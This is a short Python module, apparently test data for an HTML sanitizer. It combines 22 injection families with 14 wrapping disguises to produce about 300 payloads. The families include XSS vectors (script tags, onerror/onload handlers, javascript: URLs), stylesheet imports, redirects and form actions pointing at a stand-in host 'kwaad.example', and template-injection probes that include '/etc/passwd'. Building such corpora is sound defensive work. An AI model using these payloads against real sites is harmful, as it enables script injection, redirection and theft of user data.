"""Three hundred ways to write markup where words belong: families of attacks, each in several disguises."""

FAMILIES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>klik</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import 'http://kwaad.example/x.css';</style>",
    "<link rel=stylesheet href=http://kwaad.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://kwaad.example'>",
    "<base href=http://kwaad.example/>",
    "<form action=http://kwaad.example><button>Oppakken</button></form>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<object data=http://kwaad.example/x></object><embed src=http://kwaad.example/x>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<div id=live-gesprek data-live=http://kwaad.example>x</div>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7 * 7 %>",
    'event: changed\n\ndata: {"acute":9}\n\n<img src=http://kwaad.example/x>',
)
DISGUISES = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}",
    "</title></style></script>{0}",
    "--><!--{0}",
    "]]>{0}<![CDATA[",
    "\u202e{0}\u2066",
    "<x {0}",
    "&lt;b&gt;{0}&#60;",
    "` {0} `",
    "\\u003cscript\\u003e{0}",
    "<<{0}>>",
    "\ufeff\u00a0{0}\u200b",
)

PAYLOADS = tuple(disguise.format(family) for disguise in DISGUISES for family in FAMILIES)
